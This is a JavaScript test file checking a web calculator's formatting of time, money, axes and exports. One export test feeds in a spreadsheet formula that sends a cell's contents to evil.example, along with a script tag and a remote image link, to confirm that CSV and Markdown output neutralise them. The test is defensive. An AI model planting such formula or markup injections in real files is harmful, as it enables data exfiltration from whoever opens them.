// The display settings (the module's options time and money; web/format.mjs passes the
// page's): a fixed time unit or full money never shows a value it cannot hold (Infinity,
// 0, hundreds of digits). Values by hand.
import test from 'node:test';
import assert from 'node:assert/strict';
import { load } from './load.mjs';
import { useModule, valueText, keepTogether, exactText, cardUnit, tickTexts, sentences, axisScale, diffText } from '../../web/format.mjs';

const m = await load();
useModule(m);
const prefs = (time, money = 'short') => ({ bytes: 'decimal', time, money });
const shown = (value, unit, p) => valueText(value, unit, p);

test('a fixed time unit holds the values it can, and leaves the others in the core\'s scale', () => {
  assert.equal(shown(0.625, 's', prefs('ms')), '625 ms');
  assert.equal(shown(8750, 's', prefs('h')), '2.431 h');  // 8750 / 3600
  assert.equal(shown(0, 's', prefs('day')), '0 days');
  assert.equal(m.humanText(90, 's', { time: 'min' }), '1.5 min');
  assert.equal(m.humanText(2.5e-6, 's', { time: 'µs' }), '2.5 µs');
  // a word, plural but for one, as the core writes days (an attacking helper read "22.82 day")
  assert.equal(shown(22.82 * 86400, 's', prefs('day')), '22.82 days');
  assert.equal(shown(86400, 's', prefs('day')), m.humanText(86400, 's'));
  assert.equal(shown(86400, 's', prefs('day')), '1 day');
  // an axis of them is titled "(days)", as with auto (a second trial read "(day)")
  assert.equal(axisScale('s', 20 * 86400, prefs('day')).unit, 'days');
  assert.equal(axisScale('s', 20 * 86400, prefs('day')).factor, 86400);
  assert.equal(axisScale('s', 20 * 86400, prefs('auto')).unit, 'days');
  assert.equal(axisScale('s', 2, prefs('ms')).factor, 1e-3);
  // 1.25e300 s is 1.25e309 ns: beyond a double; 1e-320 s is 1.2e-325 day: below one
  for (const [v, time] of [[1.25e300, 'ns'], [1e303, 'µs'], [1e-320, 'day'], [5e-324, 'h']]) {
    const text = shown(v, 's', prefs(time));
    assert.equal(text, m.humanText(v, 's'), `${v} s in ${time}`);
    assert.doesNotMatch(text, /Infinity|^0 /);
  }
  // a property's prediction is written as its card: accelerator_hours in the fixed unit too
  assert.equal(m.propertyText('TrainingComputeScenario', 'accelerator_hours', 7200, { time: 'min' }), '120 min');
  assert.equal(m.propertyText('TrainingComputeScenario', 'accelerator_hours', 7200), '2 h');
});

test('full money writes cents, and leaves sub-cent and astronomical amounts to the core', () => {
  const full = (v) => shown(v, 'USD', prefs('auto', 'full'));
  assert.equal(full(38.888888), '$38.89');
  assert.equal(full(8923000), '$8,923,000.00');
  assert.equal(full(-1234567.891), '-$1,234,567.89');
  assert.equal(full(1.7e-6), m.humanText(1.7e-6, 'USD'));
  // from a cent to ten cents, two significant digits as the short form ("$0.01" was a third low)
  assert.equal(full(0.0149), '$0.015');
  assert.equal(full(-0.0549), '-$0.055');
  assert.equal(full(0.1), '$0.10');
  assert.equal(full(1e303), m.humanText(1e303, 'USD'));
  assert.ok(full(1e303).length < 20, full(1e303));
  assert.equal(full(2e15), m.humanText(2e15, 'USD'));
  assert.deepEqual(axisScale('USD', 5e6, prefs('auto', 'full')), { factor: 1, unit: '$', money: true });
});

test('the settings are options the module checks, by name', () => {
  assert.throws(() => m.humanText(1, 's', { time: 'hours' }), { message: 'options.time: must be one of "auto", "ns", "µs", "ms", "s", "min", "h", "day", got "hours"', field: 'options' });
  assert.throws(() => m.evaluatePreset('TransformerBsp8Workers', {}, { money: 'long' }), { message: 'options.money: must be "short" or "full", got "long"', field: 'options' });
  // the Greek mu looks like the micro sign: said, as the unit reader says it (an attacker's trial)
  assert.throws(() => m.humanText(1, 's', { time: '\u03bcs' }), { message: 'options.time: must be one of "auto", "ns", "µs", "ms", "s", "min", "h", "day", got "\u03bcs" (the micro sign is µ, not Greek mu)' });
  // not a number is written as every text writes it ("$nan" leaked from printf)
  assert.equal(m.humanText(NaN, 'USD', { money: 'full' }), 'NaN');
  assert.equal(m.propertyText('ClusterTcoScenario', 'capex', -Infinity, { money: 'full' }), '-Infinity');
  // evaluate writes its texts, and its work lines' digits, under them: by hand, 722.7e21 flop /
  // 3.2408e18 flop/s / 60 = 3,716.67 min (with 3.241 it read 3,716.4 min)
  const t = m.evaluatePreset('Llama8BOnFrontier8K', {}, { time: 'min', work: true }).properties.training_time;
  assert.equal(`${t.work.text} = ${t.text}`, '722.7 ZFLOP / (3.2408 EFLOP/s) = 3,716.7 min');
  const c = m.evaluatePreset('Gpt3OnTraining1KA100', {}, { money: 'full', work: true }).properties.training_cost;
  assert.equal(`${c.work.text} = ${c.text}`, '560,897.436 h × 2 USD/h = $1,121,794.87');  // 560,897.436 × 2
});

test('a math line written out as text breaks after operators and never between a number and its unit', () => {
  const shown = (t) => keepTogether(t).replace(/\u00a0/g, '~');
  // the reviewer's cases at 390 px: "$36.8 / million", "(128 / − 1)"
  assert.equal(shown('cost = 36.8 million USD / 5 year = $36.8 million'), 'cost~= 36.8~million USD~/ 5~year~= $36.8~million');
  assert.equal(shown('t = (128 − 1) × 2.45 TB / 100 GB/s = 24.5 s'), 't~= (128~− 1)~× 2.45~TB~/ 100~GB/s~= 24.5~s');
  assert.equal(shown('i = c when c is given; y otherwise'), 'i~= c~when c is given; y~otherwise');
  assert.equal(shown('n = 8 / 1 = 8'), 'n~= 8~/ 1~= 8');  // a number before an operator is no unit
});

test('the exact line of a money rate is per hour, as its card reads it', () => {
  // owned_cost_per_accelerator_hour read "$1.37/h = 0.000379907052258 USD/s"
  assert.equal(exactText({ value: 1.3676653881 / 3600, unit: 'USD/s' }), '= 1.3676653881 USD/h');
  assert.equal(exactText({ value: 0.625, unit: 's' }), '= 0.625 s');
  // under the Time setting, in its unit as the card reads: by hand, 222,999.6 s / 60 = 3,716.66 min
  assert.equal(exactText({ value: 222999.6, unit: 's' }, null, '3,717 min', prefs('min')), '= 3716.66 min');
  assert.equal(exactText({ value: 0.625, unit: 's' }, null, '625 ms', prefs('ms')), '');
  // service_time 50 ms + 0.5 ms × 8 is 0.054000000000000006 s in doubles, 54.00000000000001
  // ms, which the line writes "54 ms"; so no "54 ms = 54 ms" (a course author's trial)
  const st = 0.05 + 0.0005 * 8;
  assert.notEqual(st / 0.001, 54);
  assert.equal(exactText({ value: st, unit: 's' }, null, '54 ms', prefs('ms')), '');
  // the card's unit in the singular, and a money rate per hour (a re-checker's trial: "1 day
  // = 1 days", "1 sample = 1 samples", "$2.00/h = 2 USD/h")
  assert.equal(exactText({ value: 86400, unit: 's' }, null, '1 day', prefs('day')), '');
  assert.equal(exactText({ value: 1, unit: 'samples' }, null, '1 sample'), '');
  assert.equal(exactText({ value: 2 / 3600, unit: 'USD/s' }, null, '$2.00/h'), '');
  assert.equal(exactText({ value: 2.5 / 3600, unit: 'USD/s' }, null, '$2.00/h'), '= 2.5 USD/h');
  assert.equal(exactText({ value: 1e308, unit: 's' }, null, null, prefs('ns')), '= 1e+308 s');
  assert.equal(exactText({ value: 12500, unit: 'count' }), '= 12500');
  // nothing where the card already reads it exactly (a new user's trial: "256 samples = 256 samples")
  assert.equal(exactText({ value: 12500, unit: 'count' }, null, '12,500'), '');
  assert.equal(exactText({ value: 256, unit: 'samples' }, null, '256 samples'), '');
  assert.equal(exactText({ value: 0.4375, unit: '' }, null, '0.4375'), '');
  assert.equal(exactText({ value: 7 / 23, unit: '' }, null, '0.3043'), '= 0.304347826087');
  assert.equal(exactText({ value: 0.625, unit: 's' }, null, '625 ms'), '= 0.625 s');
  // ... nor where it reads the same number in another form (a re-checker's trial)
  assert.equal(exactText({ value: 30720000, unit: 'USD' }, null, '$30,720,000.00'), '');
  assert.equal(exactText({ value: 0.000025, unit: '' }, null, '2.5e-5'), '');
  assert.equal(exactText({ value: 30720000, unit: 'USD' }, null, '$30.72 million'), '= 30720000 USD');
  // in the unit the card is written in, when the property has one: 4348.895921 tokens per s;
  // 2,019,230,640 s of accelerator time is 560,897.4 h (/ 3600)
  assert.equal(exactText({ value: 4348.895921, unit: '1/s' }, { display_unit: 'tokens/s', display_factor: 1 }), '= 4348.895921 tokens/s');
  assert.equal(exactText({ value: 2019230640, unit: 's' }, { display_unit: 'h', display_factor: 3600 }), '= 560897.4 h');
  assert.equal(exactText({ value: 0.625, unit: 's' }, { display_unit: null, display_factor: 1 }), '= 0.625 s');
  // a money rate's description has no display unit: per hour all the same
  assert.equal(exactText({ value: 2 / 3600, unit: 'USD/s' }, { unit: 'USD/s', display_unit: null, display_factor: 1 }), '= 2 USD/h');
  // the prediction box asks in the same unit (cardUnit, one rule for both)
  assert.deepEqual([{ unit: 'USD/s' }, { unit: 's', display_unit: 'h' }, { unit: 'count' }, { unit: 'byte', display_unit: null }].map(cardUnit),
    ['USD/h', 'h', 'count', 'byte']);
});

test('axis labels of numbers from 1e10 up have an exponent, as few digits as keep them apart', () => {
  // "2,000,000,000,000" took a phone-width axis for one label (training_tokens swept linearly)
  assert.deepEqual(tickTexts([0, 1e12, 2e12]), ['0', '1e12', '2e12']);
  // a money axis in $ million reads "$600M", not "$600" with the scale only in its title (a new user's trial)
  assert.deepEqual(tickTexts([0, 200, 400, 600], true, '$ million'), ['$0', '$200M', '$400M', '$600M']);
  assert.deepEqual(tickTexts([-5, 0, 2.5], true, '$ thousand'), ['-$5k', '$0', '$2.5k']);
  assert.deepEqual(tickTexts([1, 2], true, '$ billion'), ['$1B', '$2B']);
  assert.deepEqual(tickTexts([1, 2], true, '$/h'), ['$1', '$2']);
  assert.deepEqual(tickTexts([1, 2], false, '$ million'), ['1', '2']);
  assert.deepEqual(tickTexts([2.4e12, 2.4001e12, null]), ['2.4e12', '2.4001e12', null]);
  assert.deepEqual(tickTexts([-5e10, 5e10]), ['-5e10', '5e10']);
  // below it, the cards' rule; money keeps its own (its axes are scaled: "$ trillion")
  assert.deepEqual(tickTexts([0, 5e9]), ['0', '5,000,000,000']);
  assert.deepEqual(tickTexts([1e10, 2e10], true), ['$10,000,000,000', '$20,000,000,000']);
  // ... up to where the cards write money with an exponent: one style per axis (it read
  // "$800,000,000,000,000" beside "$1e15")
  assert.deepEqual(tickTexts([8e14, 1e15, 1.2e15], true), ['$8e14', '$1e15', '$1.2e15']);
  assert.equal(m.humanText(1e15, 'USD'), '$1e15');
});

test('a field shown in a unit of time the cards also write is shown in their symbol (µs, not us)', () => {
  // a new user's trial: work lines quoted a latency as "5 us" beside cards that write "µs"
  const cardSymbols = new Set(['ns', 'µs', 'ms', 's', 'min', 'h']);
  let checked = 0;
  for (const t of m.listScenarioTypes()) {
    for (const f of t.fields) {
      if (f.type !== 'quantity' || f.unit !== 's') continue;
      // the symbol humanText writes for a value of the display unit's own size
      const written = m.humanText(5 * f.display_factor, 's').replace(/^[0-9.,]+ /, '');
      if (!cardSymbols.has(written)) continue;  // days, years: a word, not a symbol
      assert.equal(f.display_unit, written, `${t.name}.${f.name}`);
      checked++;
    }
  }
  assert.ok(checked >= 5, `${checked} time fields checked`);
});

test('messages joined into one text each end as a sentence', () => {
  // an attacking helper read "…got 0 Some inputs are invalid or missing."
  assert.equal(sentences(['workers: must be an integer >= 1, got 0', 'Some inputs are invalid or missing.']),
    'workers: must be an integer >= 1, got 0. Some inputs are invalid or missing.');
  assert.equal(sentences(['expected a time such as "1 s"', '', null, 'The plot below (dimmed) is of the last valid settings: x.']),
    'expected a time such as "1 s". The plot below (dimmed) is of the last valid settings: x.');
  assert.equal(sentences(['Done!', 'Why?', 'and so:']), 'Done! Why? and so:');
});

test('yRange: one y range for the screen and the exports, a tenth of the span beyond each end, zero kept, round ends', async () => {
  const { yRange } = await import('../../web/figure.mjs');
  const ends = (lo, hi) => { const r = yRange(lo, hi); return [r.lo, r.hi]; };
  // by hand: a flat 148.1 is drawn in 148.1 ± 14.81 = 133.29..162.91; steps of 10 (a fifth
  // of 29.6 is 5.9, the next of 1, 2, 2.5, 5, 10 is 10): 130 to 170
  assert.deepEqual(ends(148.1, 148.1), [130, 170]);
  assert.deepEqual(yRange(148.1, 148.1).ticks, [130, 140, 150, 160, 170]);
  assert.deepEqual(ends(1, 1), [0.9, 1.1]);            // ±0.1, steps of 0.05
  assert.deepEqual(ends(0, 0), [-1, 1]);               // ±1 about 0
  assert.deepEqual(ends(0, 148.1), [0, 200]);          // 0..162.91, steps of 50
  assert.deepEqual(ends(10, 20), [7.5, 22.5]);         // 9..21, steps of 2.5
  assert.deepEqual(ends(-3, -1), [-3.5, -0.5]);        // -3.2..-0.8, steps of 0.5
  assert.deepEqual(ends(Infinity, -Infinity), [0, 1]); // no values
  for (const [lo, hi] of [[0, 148.1], [3, 7], [-5, 5], [2e-9, 7e-9], [1e29, 3e29], [-40, -1], [0.5, 150]]) {
    const r = yRange(lo, hi), m = 0.1 * (hi - lo) * (1 - 1e-12);
    assert.ok(r.lo <= lo - m || (r.lo === 0 && lo >= 0), `${lo}..${hi}: ${r.lo}`);
    assert.ok(r.hi >= hi + m || (r.hi === 0 && hi <= 0), `${lo}..${hi}: ${r.hi}`);
  }
  // an axis without a unit (a fraction) stops at 1 when the margin would cross it (a course
  // author's trial: goodput_ratio 0.27..0.94 on an axis to 1.2). By hand: 0.27 − 0.067 =
  // 0.203, 0.94 + 0.067 = 1.007 → 1; a fifth of 0.797 is 0.159, steps of 0.2: 0.2 to 1
  assert.deepEqual(yRange(0.27, 0.94, true).ticks, [0.2, 0.4, 0.6, 0.8, 1]);
  assert.deepEqual(yRange(0.27, 0.94).ticks, [0.2, 0.4, 0.6, 0.8, 1, 1.2]);     // with a unit, as before
  assert.deepEqual(yRange(0.5, 1.5, true).ticks, yRange(0.5, 1.5).ticks);       // past 1: as any axis
  assert.deepEqual(yRange(1, 1).ticks, [0.9, 0.95, 1, 1.05, 1.1]);                // a flat 1 with a unit: ±10 %
  assert.deepEqual(yRange(1, 1, true).ticks, [0, 0.2, 0.4, 0.6, 0.8, 1]);        // a flat fraction: 0 to 1 (a re-checker's trial)
  assert.deepEqual(yRange(0, 0, true).ticks, [0, 0.2, 0.4, 0.6, 0.8, 1]);
  assert.deepEqual(yRange(0.999999, 0.9999995, true).ticks, [0, 0.2, 0.4, 0.6, 0.8, 1]);
  const { axisRange } = await import('../../web/figure.mjs');
  assert.equal(axisRange({ unit: '', money: false, factor: 1 }, 0.27, 0.94).hi, 1);
  assert.ok(axisRange({ unit: 's', money: false, factor: 1 }, 0.27, 0.94).hi > 1.19);
});

test('an entry\'s bytes in binary units say their decimal size too, as results write it by default', async () => {
  // a student's trial: the H100's facts said "memory_capacity 80 GiB" while the work line
  // divided by "85.9 GB". By hand: 80 x 2^30 = 85,899,345,920 bytes = 85.9 GB; 32 GiB = 34.36 GB
  const { entryFacts } = await import('../../web/fields.mjs');
  const kind = m.listRegistries().find((k) => k.name === 'hardware');
  const entries = Object.fromEntries(kind.entries.map((e) => [e.name, e]));
  const fact = (name, field) => new Map(entryFacts(kind, entries[name]).facts).get(field);
  assert.equal(fact('H100', 'memory_capacity'), '80 GiB (85.9 GB)');
  assert.equal(fact('V100', 'memory_capacity'), '32 GiB (34.36 GB)');
  // other quantities are written once, in their own unit
  assert.equal(fact('H100', 'peak_flops'), '989 TFLOP/s');
});

test('a difference in the compare table reads as a percentage, or from twice the first column as a factor', () => {
  // SSP's speedup against BSP's: 5.865 / 5.714 = 1.0264
  assert.equal(diffText(100000 / (15500 * 1.1), 100000 / (14000 * 1.25)), '+2.64 %');
  assert.equal(diffText(0.25, 1), '÷4');
  assert.equal(diffText(1.5, 1), '+50 %');
  // 32 sequences' KV cache against one: 32 times, where "+3,100 %" had to be worked back
  assert.equal(diffText(32 * 268435456, 268435456), '×32');
  assert.equal(diffText(2, 1), '×2');
  assert.equal(diffText(101.44, 1), '×101');  // to 3 digits
  assert.equal(diffText(2.5, 1), '×2.5');
  // and a fall to half or less as the factor it falls by (a re-checker's trial: "−96.9 %" for 1 against 32)
  assert.equal(diffText(1, 32), '÷32');
  assert.equal(diffText(0.5, 1), '÷2');
  assert.equal(diffText(0.6, 1), '−40 %');
  // of the other sign, or against zero, a percentage (a factor would hide the sign)
  assert.equal(diffText(-3, 1), '−400 %');
  assert.equal(diffText(5, 0), '+∞ %');
  assert.equal(diffText(7, 7), '±0');
});

test('exports write a link\'s text as text: no spreadsheet formula in a CSV cell, no markup in the Markdown', async () => {
  // an attacker's trial: an inline workload named =HYPERLINK(...) reached the CSV as a formula, <script> the Markdown as HTML
  const { resultCsv, resultMarkdown } = await import('../../web/export.mjs');
  const type = m.describeScenarioType('DataParallelAttackSurfaceScenario');
  const inputs = { ...m.listPresets().find((p) => p.name === 'ReferenceJobAttackSurface').inputs,
    workload: { name: '=HYPERLINK("https://evil.example/?"&A2,"click")<script>x</script>', parameters: '7e9 param' } };
  const r = m.evaluate(type.name, inputs);
  const csv = resultCsv(r, type, { dp_degree: '-3+1' });
  // the name starts with an apostrophe (a spreadsheet shows it as text); quotes doubled as CSV has them
  assert.match(csv, /\ninput,workload,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A2,""click""\)<script>x<\/script>",,/);
  assert.match(csv, /\ninput,dp_degree,16,,'-3\+1,,\n/);  // the text as typed, a formula too
  assert.match(csv, /\nproperty,gradient_bytes,14000000000,byte,14 GB,/);  // 7e9 x 2 byte/param; numbers stay numbers
  const md = resultMarkdown(r, type, prefs('auto'), null, {});
  assert.ok(!md.includes('<script>'), md);
  // nor a link or an image, which rendered notes would fetch (a re-checker's trial)
  const img = resultMarkdown(m.evaluate(type.name, { ...inputs, workload: { name: '![x](http://evil.example/t.png)', parameters: '7e9 param' } }), type, prefs('auto'), null, {});
  assert.match(img, /!\\\[x\\\]\(http:\/\/evil\.example\/t\.png\)/);
  assert.match(md, /&lt;script&gt;x&lt;\/script&gt;/);
  // an equation is a code span, which Markdown does not read as markup: written as it is
  assert.match(md, /\| `gradient_bytes` \| 14 GB \| `P × gradient_bytes_per_param` \|/);
});

test('exports write an input not typed as its field\'s default reads, not in canonical units', async () => {
  // an instructor's trial: "| gpu_mttf | 180000000 s |" where the page said "default 50000 h"
  const { resultCsv, resultMarkdown } = await import('../../web/export.mjs');
  const type = m.describeScenarioType('MtbfCascadeScenario');
  const r = m.evaluatePreset('Book10KThreeWeekJob');
  const gpu = type.fields.find((f) => f.name === 'gpu_mttf');
  assert.equal(gpu.default, '50000 h');
  const md = resultMarkdown(r, type, prefs('auto'), null, {});
  assert.match(md, /\| `gpu_mttf` \| 50000 h \|/);
  assert.ok(!md.includes('180000000 s'), md);
  // the CSV keeps the canonical value and unit beside it: 50,000 h = 1.8e8 s
  assert.match(resultCsv(r, type, {}), /\ninput,gpu_mttf,180000000,s,50000 h,,\n/);
});

test('exports carry each property\'s equation with the inputs substituted, as the page shows it', async () => {
  // "exports have the equations but not the work lines" (stop 46's notes): course notes
  // made from an export lost the working the page shows
  const { resultCsv, resultMarkdown } = await import('../../web/export.mjs');
  const type = m.describeScenarioType('DataParallelAttackSurfaceScenario');
  const r = m.evaluatePreset('ReferenceJobAttackSurface', {}, { work: true });
  const csv = resultCsv(r, type, {});
  assert.match(csv, /^section,name,value,unit,text,equation,work\n/);
  // GPT-3's 175e9 param × 2 byte/param = 3.5e11 byte (350 GB); 2 × (16 − 1) / 16 = 1.875
  assert.match(csv, /\nproperty,gradient_bytes,350000000000,byte,350 GB,P × gradient_bytes_per_param,1\.75e11 param × 2 byte\/param\n/);
  assert.match(csv, /\nproperty,allreduce_factor,1\.875,,1\.875,2 × \(N − 1\) \/ N \(0 when N = 1\),2 × \(16 − 1\) \/ 16\n/);
  // 1,024 accelerators: a cell with a comma is quoted
  assert.match(csv, /\nproperty,accelerators_per_replica,64,count,64,[^\n]*,"1,024 \/ 16"\n/);
  for (const row of csv.trim().split('\n')) assert.equal(row.replace(/"[^"]*"/g, 'q').split(',').length, 7, row);
  const md = resultMarkdown(r, type, prefs('auto'), null, {});
  assert.match(md, /\| property \| value \| equation \| with these inputs \|\n\|---\|---\|---\|---\|/);
  assert.match(md, /\| `gradient_bytes` \| 350 GB \| `P × gradient_bytes_per_param` \| `1\.75e11 param × 2 byte\/param` \|/);
  // under the page's settings the line is the one its card shows: δ = 2.45 TB / 100 GB/s = 24.5 s
  // = 0.0068056 h; sqrt(2 × 0.006806 h × 4.138 h) = 0.23733 h, shown 0.2373 h
  const ck = m.describeScenarioType('CheckpointIntervalScenario');
  const h = resultMarkdown(m.evaluatePreset('Gpt3On10KYoungDaly', {}, { work: true, time: 'h' }), ck, prefs('auto'), null, {});
  assert.match(h, /\| `young_interval` \| 0\.2373 h \| `sqrt\(2 × checkpoint_write_time × M\)` \| `sqrt\(2 × 0\.006806 h × 4\.138 h\)` \|/);
  // a result evaluated without work has an empty cell, not "undefined"
  const bare = resultMarkdown(m.evaluatePreset('ReferenceJobAttackSurface'), type, prefs('auto'), null, {});
  assert.match(bare, /\| `gradient_bytes` \| 350 GB \| `P × gradient_bytes_per_param` \|  \|/);
  assert.ok(!/undefined/.test(bare + resultCsv(m.evaluatePreset('ReferenceJobAttackSurface'), type, {})));
});
